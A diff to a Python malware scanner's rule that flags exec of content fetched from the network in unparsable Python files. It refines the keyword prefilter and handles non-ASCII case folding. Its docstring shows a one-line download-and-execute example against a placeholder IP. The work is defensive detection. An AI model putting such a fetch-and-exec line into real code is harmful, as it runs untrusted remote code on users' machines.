@@ -12,7 +12,14 @@ from urllib.parse import urlsplit
 from douane.analysis.context import FileContext, PyContext, child_nodes, walk_order
 from douane.analysis.indicators import url_kind
 from douane.analysis.interface import FileType, Hit, Tag, all_of, anchored
-from douane.analysis.process import EXEC_NAMES, HOLE, command_of, is_exec_call, loose_str
+from douane.analysis.process import (
+    CASE_FOLDS,
+    EXEC_NAMES,
+    HOLE,
+    command_of,
+    is_exec_call,
+    loose_str,
+)
 from douane.analysis.pyapi import (
     CHMOD,
     DYNAMIC_EXEC,
@@ -589,8 +596,15 @@ def unparsed_python_download_and_run(ctx: FileContext) -> Iterator[Hit]:
     Example: `exec urllib2.urlopen("http://192.0.2.1/s").read()` next to `print "ok"`.
     """
     legacy = legacy_bootstrap(ctx.rel_path)
-    low = ctx.member.data.lower()  # the regexes' words, looked up before they run over the text
-    if b"exec" in low or b"eval" in low:
+    # the regexes' words, looked up before they run over the text (case-insensitive, like the
+    # first: unless the file holds a character IGNORECASE also takes for an ASCII letter)
+    data = ctx.member.data
+    low = data.lower()
+    folds = not data.isascii() and any(c in data for c in CASE_FOLDS)
+    if folds or (
+        (b"exec" in low or b"eval" in low)
+        and (b"urlopen" in low or b"requests.get" in low or b"urllib" in low)
+    ):
         for m in _UNPARSED_EXEC_FETCH.finditer(ctx.text):
             yield ctx.hit_at(m.start(), "exec of fetched content in unparsable Python"
                              + (" (legacy bootstrap script)" if legacy else ""),
